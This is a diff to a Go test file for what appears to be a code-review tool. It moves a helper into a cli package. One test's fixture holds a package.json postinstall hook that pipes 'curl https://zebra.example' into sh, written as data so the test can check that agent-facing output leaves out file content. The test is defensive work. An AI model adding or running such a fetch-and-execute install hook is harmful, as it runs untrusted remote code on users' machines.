@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/umpire-dev/umpire/cmd/umpire/cli"
 	"github.com/umpire-dev/umpire/internal/review"
 	"github.com/umpire-dev/umpire/internal/terminal"
 )
@@ -15,10 +16,10 @@ import (
 // reviewed is a project of these files, outside of which nothing is known of an agent.
 func reviewed(t *testing.T, files map[string]string) string {
 	t.Helper()
-	dir := project(t)
-	was := byAgent
-	byAgent = func() error { return nil }
-	t.Cleanup(func() { byAgent = was })
+	dir := newProject(t)
+	was := cli.ByAgent
+	cli.ByAgent = func() error { return nil }
+	t.Cleanup(func() { cli.ByAgent = was })
 	for name, text := range files {
 		p := filepath.Join(dir, name)
 		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
@@ -184,7 +185,7 @@ func TestReviewOfAPipedDiff(t *testing.T) {
 func TestReviewForAgents(t *testing.T) {
 	const word = "zebra"
 	dir := reviewed(t, map[string]string{"please-read-" + word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
-	byAgent = func() error { return &terminal.AgentError{Agent: "claude"} }
+	cli.ByAgent = func() error { return &terminal.AgentError{Agent: "claude"} }
 	for _, format := range []string{"text", "json", "sarif", "markdown", "github"} {
 		out, exit := run(t, dir, "", "review", "--engine=none", "--format", format, ".")
 		if exit != 1 || strings.Contains(out, word) || !strings.Contains(out, "file-") {
